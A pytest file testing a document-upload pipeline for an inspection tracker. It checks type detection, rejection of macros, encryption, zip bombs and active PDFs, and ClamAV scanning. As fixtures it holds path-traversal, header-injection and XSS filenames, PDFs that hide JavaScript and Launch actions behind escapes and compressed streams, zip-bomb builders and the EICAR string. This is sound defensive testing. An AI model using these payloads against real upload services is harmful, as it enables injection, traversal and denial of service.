"""SECURITY.md E1-E6: one fail-closed upload pipeline (tracker/uploads.py, tracker/scanning.py)
for the four kinds of stored upload: the debrief note file, the draft report, a photograph and an
action plan file. ClamAV's clamscan runs for real, with signatures made locally
(tests/fixtures/test-signatures.ndb): signature updates need the internet."""

from __future__ import annotations

import io
import struct
import tempfile
import tracemalloc
import zipfile
import zlib
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.fixtures.scanning import HAVE_CLAMSCAN, INFECTED_MARKER, SIGNATURES, scanned_settings
from tests.support import make_user, post_form, run, sign_in
from tracker import scanning, uploads
from tracker.roles import Role

LIMIT = 20 * 1024 * 1024
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
needs_clamscan = pytest.mark.skipif(not HAVE_CLAMSCAN, reason="clamscan is not installed (scripts/setup.sh)")


@pytest.fixture
def settings(database_url):
    """Uploads in these tests are scanned by the real clamscan with the local signatures."""
    return scanned_settings(database_url)


# -- files made in memory --------------------------------------------------------------------------


def zip_bytes(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(extra: dict[str, bytes] | None = None, main: bytes = b"wordprocessingml.document.main+xml") -> bytes:
    types = (
        b'<Types><Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.' + main + b'"/></Types>'
    )
    return zip_bytes({"[Content_Types].xml": types, "word/document.xml": b"<w:document/>", **(extra or {})})


def xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Reference", "Response"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def odf(mimetype: bytes = b"application/vnd.oasis.opendocument.text", extra=None) -> bytes:
    return zip_bytes(
        {"mimetype": mimetype, "content.xml": b"<office:document-content/>", **(extra or {})},
    )


def refused(content: bytes, allowed=uploads.MEDIA_TYPES.keys(), filename: str | None = None) -> str:
    with pytest.raises(uploads.UploadRefused) as caught:
        uploads.check_upload(content, allowed, limit_bytes=LIMIT, filename=filename)
    return str(caught.value)


# -- E2: the type is decided by the content, against the caller's allowlist --------------------------


@pytest.mark.parametrize(
    "content, kind",
    [
        (PDF, "pdf"),
        (docx(), "docx"),
        (xlsx(), "xlsx"),
        (odf(), "odt"),
        (odf(b"application/vnd.oasis.opendocument.spreadsheet"), "ods"),
        (b"Name,Kind\nHMP Example,full\n", "csv"),
        (PNG, "png"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 32, "jpeg"),
    ],
)
def test_each_allowed_type_is_known_by_its_content(content, kind):
    checked = uploads.check_upload(content, {kind}, limit_bytes=LIMIT, filename=f"upload.{kind}")
    assert checked.file_type == kind and checked.media_type == uploads.MEDIA_TYPES[kind]
    assert checked.size == len(content) and len(checked.sha256) == 64


def test_a_type_outside_the_callers_allowlist_is_refused_in_gov_uk_words():
    assert refused(PDF, uploads.IMAGES) == "The selected file must be a PNG image or JPEG image"
    assert refused(PNG, uploads.DOCUMENTS) == (
        "The selected file must be a PDF, Word document (.docx) or OpenDocument text (.odt)"
    )
    assert refused(b"MZ\x90\x00" + b"\x00" * 64, uploads.SPREADSHEETS) == (
        "The selected file must be an Excel spreadsheet (.xlsx) or CSV file"
    )
    assert refused(b"") == uploads.EMPTY


@pytest.mark.parametrize(
    "content, filename",
    [
        (docx(), "report.pdf"),  # a Word document renamed .pdf
        (PDF, "photo.png"),
        (b"<script>alert(1)</script>", "page.html"),  # text that would pass as CSV, named .html
        (PNG, "plan.exe"),
    ],
)
def test_a_renamed_file_is_refused(content, filename):
    message = refused(content, filename=filename)
    assert message.startswith(f"The selected file's name ends .{filename.rsplit('.', 1)[1]} but it is a")


def test_names_without_a_real_extension_are_not_treated_as_renamed():
    for name in ("draft v1.2", "HMP Example 12.03.2025", "report", ".pdf"):
        assert uploads.check_upload(PDF, {"pdf"}, limit_bytes=LIMIT, filename=name).file_type == "pdf"
    assert uploads.check_upload(PDF, {"pdf"}, limit_bytes=LIMIT, filename="REPORT.PDF").file_type == "pdf"


@pytest.mark.parametrize(
    "content",
    [
        docx({"word/vbaProject.bin": b"\x00" * 20}),
        docx(main=b"wordprocessingml.document.macroEnabled.main+xml"),
        zip_bytes(
            {
                "[Content_Types].xml": b'<Types><Default ContentType="application/vnd.ms-office.vbaProject"/>'
                b'<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
                "xl/workbook.xml": b"<workbook/>",
            }
        ),
        docx({"word/activeX/activeX1.xml": b"<ax/>"}),
        odf(extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
        odf(extra={"Scripts/python/evil.py": b"import os"}),
    ],
)
def test_macro_enabled_documents_are_refused(content):
    assert refused(content) == uploads.MACROS


@pytest.mark.parametrize(
    "content",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le"),
        b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Encrypt 5 0 R>>\n%%EOF\n",
        odf(extra={"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
    ],
)
def test_encrypted_documents_are_refused(content):
    assert refused(content) == uploads.ENCRYPTED


def test_old_office_files_and_active_pdfs_are_refused():
    assert refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64) == uploads.OLD_OFFICE
    assert (
        refused(b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n%%EOF") == uploads.PDF_ACTIVE
    )


# -- E3: zip bombs, refused with bounded memory --------------------------------------------------------


def _peak_mib(function) -> float:
    tracemalloc.start()
    try:
        function()
    finally:
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak / (1024 * 1024)


def _forge_sizes(content: bytes, size: int) -> bytes:
    """Rewrite every declared uncompressed size (local headers and central directory) to `size`."""
    data = bytearray(content)
    position = 0
    while (position := data.find(b"PK\x03\x04", position)) >= 0:
        struct.pack_into("<I", data, position + 22, size)
        position += 4
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        struct.pack_into("<I", data, position + 24, size)
        position += 4
    return bytes(data)


def _bombs() -> dict[str, bytes]:
    zeros = b"\x00" * (30 * 1024 * 1024)
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for number in range(5000):
            archive.writestr(f"xl/e{number}.xml", b"")
    huge = io.BytesIO()
    with zipfile.ZipFile(huge, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for number in range(5):
            archive.writestr(f"word/part{number}.xml", zeros)  # 150 MB declared
    forged = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": zeros})
    return {
        "thousands of entries": many.getvalue(),
        "huge declared size": huge.getvalue(),
        "high ratio": zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": zeros}),
        "forged sizes": _forge_sizes(forged, 1000),
    }


BOMBS = _bombs()


@pytest.mark.parametrize("name", list(BOMBS))
def test_zip_bombs_are_refused_with_bounded_memory(name):
    content = BOMBS[name]
    messages = []

    def check():  # as an import does: the check, then the spreadsheet read (K1)
        with pytest.raises(uploads.UploadRefused) as caught:
            checked = uploads.check_upload(content, uploads.MEDIA_TYPES.keys(), limit_bytes=LIMIT)
            uploads.read_table(content, checked.file_type)
        messages.append(str(caught.value))

    peak = _peak_mib(check)
    assert messages[0] in (uploads.TOO_COMPLEX, uploads.DAMAGED)
    assert peak < 16, f"{name}: {peak:.1f} MiB"


def test_a_bomb_dressed_as_a_spreadsheet_is_refused_over_http(client):
    make_user("boss", Role.HMIP_MANAGER)
    sign_in(client, "boss")
    response = post_form(
        client,
        "/establishments/import",
        files={"file": ("bomb.xlsx", BOMBS["high ratio"], "application/octet-stream")},
    )
    assert response.status_code == 200 and uploads.TOO_COMPLEX in response.text
    assert "govuk-error-summary" in response.text


# -- E4: hostile filenames -----------------------------------------------------------------------------

HOSTILE = [
    "../../etc/passwd",
    "<script>alert(1)</script>.pdf",
    "x" * 1000 + ".pdf",
    "Réunion – plan ✓ 日本語.pdf",
    "plan\r\nSet-Cookie: a=b.pdf",
    'plan"; filename=evil.exe',
    "C:\\Windows\\system32\\cmd.pdf",
    "\x00\x1b[31m.pdf",
]


def _assert_safe_disposition(header: str, disposition: str = "attachment") -> None:
    assert header.startswith(f'{disposition}; filename="')
    assert "\r" not in header and "\n" not in header and "\x00" not in header
    ascii_part = header.split('filename="', 1)[1].split('"', 1)[0]
    assert not set(ascii_part) & set('"/\\;<>%') and ascii_part.isascii() and len(ascii_part) <= 120
    assert ascii_part and not ascii_part.startswith(".")
    if "filename*=" in header:
        encoded = header.split("filename*=UTF-8''", 1)[1]
        assert all(ch.isalnum() or ch in "%-._~" for ch in encoded)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_give_a_safe_attachment_header(name):
    _assert_safe_disposition(uploads.content_disposition(name, "pdf"))
    assert uploads.safe_filename(name, "pdf").endswith(".pdf")
    kept = uploads.clean_original_name(name)
    assert len(kept) <= 255 and kept.isprintable() and "/" not in kept and "\\" not in kept


@hypothesis_settings(max_examples=300, deadline=None)
@given(name=st.text(max_size=400), kind=st.sampled_from([None, *uploads.MEDIA_TYPES]))
def test_any_filename_gives_a_safe_header_and_metadata(name, kind):
    _assert_safe_disposition(uploads.content_disposition(name, kind))
    headers = uploads.download_headers(name, kind)
    assert headers["X-Content-Type-Options"] == "nosniff" and headers["Cache-Control"] == "no-store"
    kept = uploads.clean_original_name(name)
    assert len(kept) <= 255 and kept.isprintable() and "/" not in kept
    if kind:
        assert uploads.safe_filename(name, kind).endswith("." + uploads.EXTENSIONS[kind][0])


@hypothesis_settings(max_examples=200, deadline=None)
@given(name=st.text(max_size=200))
def test_the_renamed_check_never_fails_on_any_name(name):
    try:
        uploads.check_upload(PDF, {"pdf"}, limit_bytes=LIMIT, filename=name)
    except uploads.UploadRefused as error:
        assert str(error).startswith("The selected file's name ends")


# -- the four kinds of stored upload, over HTTP ----------------------------------------------------


@dataclass
class Kind:
    """How to upload and download one kind of stored file, as the users who may."""

    name: str
    uploader: str
    reader: str
    good: bytes
    filename: str

    def setup(self) -> dict:
        raise NotImplementedError

    def upload(self, client, ctx: dict, content: bytes, filename: str | None = None):
        raise NotImplementedError

    def url(self, ctx: dict) -> str:
        raise NotImplementedError

    def stored(self, ctx: dict) -> list[bytes]:
        """Every stored content of this kind (to show what was, and was not, kept)."""
        raise NotImplementedError


class DebriefNoteFile(Kind):
    def setup(self):
        from tests.inspections.helpers import world

        ctx = world()
        make_user("otherguv", Role.ESTABLISHMENT, establishment_ids=[ctx["b"]])
        ctx["outsider"] = "otherleader"  # an HMIP leader not on the inspection: 404
        return ctx

    def upload(self, client, ctx, content, filename=None):
        from tests.inspections.test_debrief import _debrief

        files = {"note_file": (filename or self.filename, content, "application/pdf")}
        return _debrief(client, ctx["ia"], files=files)

    def url(self, ctx):
        return f"/inspections/{ctx['ia']}/debrief-note/file"

    def stored(self, ctx):
        from inspections.tables import DebriefNote

        return [bytes(r["file_content"] or b"") for r in run(DebriefNote.select(DebriefNote.file_content))]


class DraftReport(Kind):
    def setup(self):
        from tests.factcheck.helpers import build_world

        world = build_world()
        make_user("otherguv", Role.ESTABLISHMENT, establishment_ids=[world.other_est])
        return {"i": world.full, "outsider": "otherguv"}

    def upload(self, client, ctx, content, filename=None):
        return post_form(
            client,
            f"/inspections/{ctx['i']}/draft/upload",
            files={"file": (filename or self.filename, content, "application/pdf")},
        )

    def url(self, ctx):
        return f"/inspections/{ctx['i']}/draft/file"

    def stored(self, ctx):
        from factcheck.tables import DraftFile

        return [bytes(r["content"]) for r in run(DraftFile.select(DraftFile.content))]


class Photograph(Kind):
    def setup(self):
        return DraftReport.setup(self)

    def upload(self, client, ctx, content, filename=None):
        return post_form(
            client,
            f"/inspections/{ctx['i']}/photographs/new",
            {
                "caption": "Showers on B wing",
                "identity_check": "nobody_identifiable",
                "security_check": "yes",
            },
            files={"image": (filename or self.filename, content, "image/png")},
        )

    def url(self, ctx):
        from factcheck.tables import Photograph as Table

        latest = run(Table.select(Table.id).order_by(Table.id, ascending=False).first())
        return f"/inspections/{ctx['i']}/photographs/{latest['id']}/image"

    def stored(self, ctx):
        from factcheck.tables import Photograph as Table

        return [bytes(r["image"] or b"") for r in run(Table.select(Table.image))]


class ActionPlanFile(Kind):
    def setup(self):
        from tests.actionplans.helpers import world

        ctx = world()
        ctx["outsider"] = "otherguv"
        return ctx

    def upload(self, client, ctx, content, filename=None):
        return post_form(
            client,
            f"/action-plans/{ctx['plan']}/files",
            files={"file": (filename or self.filename, content, "application/pdf")},
        )

    def url(self, ctx):
        from actionplans.tables import PlanFile

        latest = run(PlanFile.select(PlanFile.id).order_by(PlanFile.id, ascending=False).first())
        return f"/action-plans/{ctx['plan']}/files/{latest['id'] if latest else 999999}"

    def stored(self, ctx):
        from actionplans.tables import PlanFile

        return [bytes(r["content"]) for r in run(PlanFile.select(PlanFile.content))]


GOOD_PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\n% uploaded-for-the-test\ntrailer<<>>\n%%EOF\n"
KINDS = [
    DebriefNoteFile("debrief note file", "leader", "leader", GOOD_PDF, "note.pdf"),
    DraftReport("draft report", "leader", "governor", GOOD_PDF, "draft.pdf"),
    Photograph("photograph", "leader", "leader", PNG + b"uploaded-for-the-test", "photo.png"),
    ActionPlanFile("action plan file", "governor", "governor", GOOD_PDF, "plan.pdf"),
]
IDS = [k.name for k in KINDS]


def _infected(kind: Kind) -> bytes:
    if kind.good.startswith(b"%PDF"):
        return kind.good.replace(b"% uploaded", b"% " + INFECTED_MARKER + b" uploaded")
    return kind.good + INFECTED_MARKER


def _uploaded(client, kind: Kind, ctx: dict, content: bytes | None = None, filename: str | None = None):
    sign_in(client, kind.uploader)
    response = kind.upload(client, ctx, content or kind.good, filename)
    assert response.status_code in (302, 303), response.text[:2000]
    client.cookies.clear()
    return response


# -- E5 and E6: a clean file downloads, only through its authorised route ------------------------------


@needs_clamscan
@pytest.mark.parametrize("kind", KINDS, ids=IDS)
def test_a_clean_file_downloads_only_through_its_authorised_route(client, kind):
    ctx = kind.setup()
    _uploaded(client, kind, ctx, filename='../../<b>évil";x')
    url = kind.url(ctx)
    sign_in(client, kind.reader)
    download = client.get(url)
    assert download.status_code == 200 and download.content == kind.good
    assert download.headers["x-content-type-options"] == "nosniff"
    assert "no-store" in download.headers["cache-control"]
    _assert_safe_disposition(download.headers["content-disposition"])
    assert download.headers["content-type"].split(";")[0] in uploads.MEDIA_TYPES.values()
    client.cookies.clear()
    sign_in(client, ctx["outsider"])
    outsider = client.get(url)
    assert outsider.status_code == 404 and kind.good not in outsider.content
    assert "content-disposition" not in outsider.headers
    client.cookies.clear()
    anonymous = client.get(url, follow_redirects=False)
    assert anonymous.status_code in (302, 303, 401) and kind.good not in anonymous.content


@needs_clamscan
@pytest.mark.parametrize("kind", KINDS, ids=IDS)
def test_an_infected_file_is_refused_and_nothing_of_it_is_kept_or_served(client, kind):
    ctx = kind.setup()
    sign_in(client, kind.uploader)
    response = kind.upload(client, ctx, _infected(kind))
    assert response.status_code == 200
    assert scanning.INFECTED_MESSAGE in response.text and "govuk-error-summary" in response.text
    assert not any(INFECTED_MARKER in content for content in kind.stored(ctx))
    assert any("signature=Tracker.Test.UploadMarker" in (r["detail"] or "") for r in all_audit_rows())
    client.cookies.clear()
    sign_in(client, kind.reader)
    assert INFECTED_MARKER not in client.get(kind.url(ctx)).content


def all_audit_rows() -> list[dict]:
    from tracker.tables import AuditEvent

    return run(AuditEvent.select())


def audit_rows_refused() -> list[dict]:
    return [r for r in all_audit_rows() if r["outcome"] == "refused"]


@pytest.mark.parametrize("kind", KINDS, ids=IDS)
def test_without_clamscan_a_file_is_not_downloadable_unless_unscanned_downloads_are_allowed(
    client, app, monkeypatch, kind
):
    monkeypatch.setattr(scanning.shutil, "which", lambda name: None)
    ctx = kind.setup()
    _uploaded(client, kind, ctx)
    sign_in(client, kind.reader)
    refused_download = client.get(kind.url(ctx))
    assert refused_download.status_code == 409
    assert "This file is waiting for its virus check" in refused_download.text
    assert kind.good not in refused_download.content
    assert "content-disposition" not in refused_download.headers
    assert any("scan=not_scanned" in (r["detail"] or "") for r in audit_rows_refused())
    app.state.settings = replace(app.state.settings, allow_unscanned_downloads=True)
    allowed = client.get(kind.url(ctx))
    assert allowed.status_code == 200 and allowed.content == kind.good


@needs_clamscan
@pytest.mark.parametrize("kind", KINDS, ids=IDS)
def test_when_clamscan_fails_the_file_is_never_downloadable(client, app, tmp_path, kind):
    broken = tmp_path / "broken.ndb"
    broken.write_text("this is not a signature database\n")
    app.state.settings = replace(
        app.state.settings, clamav_database=str(broken), allow_unscanned_downloads=True
    )
    ctx = kind.setup()
    _uploaded(client, kind, ctx)
    sign_in(client, kind.reader)
    download = client.get(kind.url(ctx))
    assert download.status_code == 409 and "This file failed its virus check" in download.text
    assert kind.good not in download.content


# -- E1: over the limit --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS, ids=IDS)
def test_a_file_over_the_limit_is_refused_with_413_nothing_stored_and_no_temp_file(
    client, app, monkeypatch, tmp_path, kind
):
    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    app.state.settings = replace(app.state.settings, upload_limit_mb=1)
    ctx = kind.setup()
    before = kind.stored(ctx)
    sign_in(client, kind.uploader)
    big = kind.good + b"\x00" * (1024 * 1024 + 10)
    response = kind.upload(client, ctx, big)
    assert response.status_code == 413
    assert "The selected file must be smaller than 1 MB" in response.text
    assert "govuk-error-summary" in response.text
    assert kind.stored(ctx) == before
    assert list(private_tmp.iterdir()) == []


def test_a_body_over_the_servers_limit_gets_413(client, settings):
    make_user("boss", Role.HMIP_MANAGER)
    sign_in(client, "boss")
    big = b"x" * (settings.upload_limit_mb * 1024 * 1024 + 1024)
    response = post_form(client, "/establishments/import", files={"file": ("big.csv", big, "text/csv")})
    assert response.status_code == 413 and "govuk-heading-l" in response.text
    assert b"x" * 1000 not in response.content


# -- E4 over HTTP: the name is only ever escaped metadata ------------------------------------------------


@needs_clamscan
def test_a_hostile_name_is_shown_escaped_and_never_used_as_a_path(client):
    kind = KINDS[3]
    ctx = kind.setup()
    _uploaded(client, kind, ctx, filename='<img src=x onerror=alert(1)>"plan.pdf')
    sign_in(client, kind.reader)
    page = client.get(f"/action-plans/{ctx['plan']}/files").text
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    header = client.get(kind.url(ctx)).headers["content-disposition"]
    assert header == 'attachment; filename="img src-x onerror-alert-1-plan.pdf"'


# -- the scanner itself ----------------------------------------------------------------------------


@needs_clamscan
def test_clamscan_with_the_local_signatures(monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    database = str(SIGNATURES)
    assert scanning.clamscan_sync(PDF, database=database) == scanning.ScanResult(scanning.CLEAN)
    found = scanning.clamscan_sync(docx({"word/media/x.bin": INFECTED_MARKER}), database=database)
    assert found.status == scanning.INFECTED and found.signature == "Tracker.Test.UploadMarker.UNOFFICIAL"
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    assert scanning.clamscan_sync(eicar, database=database).status == scanning.INFECTED
    assert list(Path(tmp_path).iterdir()) == []  # the private temp dir is removed


def test_the_scan_fails_closed(monkeypatch, tmp_path):
    monkeypatch.setattr(scanning.shutil, "which", lambda name: None)
    assert scanning.clamscan_sync(PDF).status == scanning.NOT_SCANNED
    monkeypatch.undo()
    failing = tmp_path / "clamscan"
    failing.write_text("#!/bin/sh\nexit 2\n")
    failing.chmod(0o755)
    assert scanning.clamscan_sync(PDF, binary=str(failing)).status == scanning.ERROR

    async def crash(content, *, database=""):
        raise RuntimeError("scanner crashed")

    async def odd(content, *, database=""):
        return "clean"  # not a ScanResult: not trusted

    for fake in (crash, odd):
        monkeypatch.setattr(scanning, "SCANNER", fake)
        assert run(scanning.scan(PDF)).status == scanning.ERROR
    for status in (scanning.PENDING, scanning.INFECTED, scanning.ERROR, scanning.NOT_SCANNED, "", None):
        assert not scanning.downloadable(status, scanned_settings("sqlite://"))
    assert scanning.downloadable(scanning.CLEAN, scanned_settings("sqlite://"))
    allowing = scanned_settings("sqlite://", allow_unscanned_downloads=True)
    assert scanning.downloadable(scanning.NOT_SCANNED, allowing)
    assert not scanning.downloadable(scanning.ERROR, allowing)


def test_the_old_setting_name_still_allows_unscanned_downloads(monkeypatch):
    from tracker.settings import load_settings

    monkeypatch.delenv("ALLOW_UNSCANNED_DOWNLOADS", raising=False)
    monkeypatch.setenv("ACTIONPLAN_ALLOW_UNSCANNED", "1")
    assert load_settings().allow_unscanned_downloads is True
    monkeypatch.setenv("ALLOW_UNSCANNED_DOWNLOADS", "0")
    assert load_settings().allow_unscanned_downloads is False
    monkeypatch.setenv("CLAMAV_DATABASE", "/var/lib/clamav")
    assert load_settings().clamav_database == "/var/lib/clamav"


# -- K7: active content is found after decoding ----------------------------------------------------


def pdf_with_object_stream(hidden: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
    """A well-formed PDF 1.5 whose catalog's /OpenAction is object 4, kept compressed inside an object
    stream (object 3) and found through a cross-reference stream (object 5), as real writers do."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number: int, text: bytes) -> None:
        offsets[number] = len(body)
        body.extend(b"%d 0 obj\n%s\nendobj\n" % (number, text))

    def stream(dictionary: bytes, data: bytes) -> bytes:
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [] /Count 0 >>")
    packed = b"4 0 " + hidden
    if filters == b"/FlateDecode":
        packed = zlib.compress(packed)
    elif filters == b"[/ASCIIHexDecode /FlateDecode]":
        packed = zlib.compress(packed).hex().encode() + b">"
    add(3, stream(b"/Type /ObjStm /N 1 /First 4 /Filter " + filters, packed))
    offsets[5] = len(body)
    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 3, 0), (1, offsets[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    add(5, stream(b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R", table))
    body.extend(b"startxref\n%d\n%%%%EOF\n" % offsets[5])
    return bytes(body)


def pdf_with_catalog(entries: bytes, *extra_objects: bytes) -> bytes:
    """A classic PDF (cross-reference table) whose catalog holds `entries`."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    objects += extra_objects
    body = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(body))
        body.extend(b"%d 0 obj\n%s\nendobj\n" % (number, text))
    start = len(body)
    body.extend(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    body.extend(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    body.extend(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return bytes(body)


JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
HIDDEN_PDFS = {
    "JavaScript written with # escapes": pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "Launch written with # escapes": pdf_with_catalog(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    "EmbeddedFile written with # escapes": pdf_with_catalog(
        b"/Names << /#45mbeddedFiles << /Names [(a.exe) 3 0 R] >> >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
        b"<< /Type /#45mbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "additional actions written with # escapes": pdf_with_catalog(b"/#41A << /O << /S /URI /URI (x) >> >>"),
    "JavaScript inside a compressed object stream": pdf_with_object_stream(JS),
    "JavaScript inside an object stream whose data follows a lone CR": pdf_with_object_stream(JS).replace(
        b">>\nstream\n", b">>\nstream\r", 1
    ),
    "JavaScript inside a hex-encoded compressed object stream": pdf_with_object_stream(
        JS, filters=b"[/ASCIIHexDecode /FlateDecode]"
    ),
}


@pytest.mark.parametrize("name", list(HIDDEN_PDFS))
def test_pdf_active_content_is_found_after_decoding(name):
    content = HIDDEN_PDFS[name]
    assert b"/JavaScript" not in content and b"/Launch" not in content and b"/EmbeddedFile" not in content
    assert refused(content, uploads.DOCUMENTS, filename="report.pdf") == uploads.PDF_ACTIVE


def test_an_encryption_dictionary_written_with_escapes_is_refused():
    content = pdf_with_catalog(b"").replace(b"/Root 1 0 R", b"/Root 1 0 R /#45ncrypt << /Filter /Standard >>")
    assert refused(content, uploads.DOCUMENTS) == uploads.ENCRYPTED


def _blank_pdf_from_pypdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": "Action plan"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _edited_pdf_from_pypdf() -> bytes:
    """A page with compressed text, then edited: saved as an incremental update."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, NameObject

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    text = DecodedStreamObject()
    text.set_data(b"BT /F1 12 Tf 72 712 Td (Action plan) Tj ET")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(text.flate_encode())
    first = io.BytesIO()
    writer.write(first)
    editor = PdfWriter(io.BytesIO(first.getvalue()), incremental=True)
    editor.add_metadata({"/Title": "Action plan, edited"})
    edited = io.BytesIO()
    editor.write(edited)
    assert edited.getvalue().count(b"%%EOF") == 2
    return edited.getvalue()


ORDINARY_PDFS = {
    "written by a PDF library": _blank_pdf_from_pypdf(),
    "with compressed text, then edited": _edited_pdf_from_pypdf(),
    "with a page destination in an object stream": pdf_with_object_stream(b"[ 2 0 R /Fit ]"),
    # image bytes may hold '/JS' by chance: only names outside stream data count
    "with image data that happens to hold /JS": pdf_with_catalog(
        b"",
        b"<< /Type /XObject /Subtype /Image /Width 2 /Height 1 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /DCTDecode /Length 12 >>\nstream\n\xff\xd8\x00/JS \x00/AA\x00\xff\xd9\nendstream",
    ),
    "minimal": PDF,
}


@pytest.mark.parametrize("name", list(ORDINARY_PDFS))
def test_ordinary_pdfs_are_accepted(name):
    checked = uploads.check_upload(ORDINARY_PDFS[name], uploads.DOCUMENTS, limit_bytes=LIMIT, filename="a.pdf")
    assert checked.file_type == "pdf"


def test_a_pdf_with_streams_that_cannot_be_parsed_is_refused():
    """What the PDF reader cannot walk cannot be checked: a stream without a cross-reference."""
    packed = zlib.compress(b"4 0 " + JS)
    content = (
        b"%%PDF-1.7\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n%%%%EOF\n" % (len(packed), packed)
    )
    assert refused(content, uploads.DOCUMENTS) in (uploads.DAMAGED, uploads.PDF_ACTIVE)


def test_an_object_stream_the_cross_reference_does_not_list_is_refused():
    """Readers that repair a PDF may find it; what cannot be checked is not kept."""
    packed = zlib.compress(b"4 0 " + JS)
    stream = b"<< /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    assert refused(pdf_with_catalog(b"", stream), uploads.DOCUMENTS) == uploads.DAMAGED


def test_a_pdf_asking_for_more_work_than_any_report_needs_is_refused():
    many = pdf_with_catalog(b"", *[b"<< >>"] * uploads.MAX_PDF_OBJECTS, b"<< /Length 2 >>\nstream\nxx\nendstream")
    assert refused(many, uploads.DOCUMENTS) == uploads.TOO_COMPLEX


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A relationships part: (type, target, target mode) each."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'.encode()


def word(types: str = "", parts: dict[str, bytes] | None = None, main: str = DOCX_MAIN) -> bytes:
    """A Word document laid out as Word writes one, with extra content types and parts."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
    )
    return zip_bytes(
        {
            "[Content_Types].xml": content_types.encode(),
            "_rels/.rels": rels((f"{RELATIONSHIPS}/officeDocument", "word/document.xml", "")),
